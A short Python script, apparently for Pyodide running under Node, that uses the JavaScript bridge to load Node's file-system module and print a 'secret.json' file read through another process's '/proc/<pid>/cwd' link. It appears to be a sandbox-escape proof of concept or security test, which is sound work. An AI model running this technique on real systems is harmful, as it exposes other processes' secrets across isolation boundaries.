"""Reads a file through the working directory of another process."""

import js

fs = js.process.getBuiltinModule("fs")
print(fs.readFileSync(f"/proc/{VICTIM_PID}/cwd/secret.json", "utf8"))
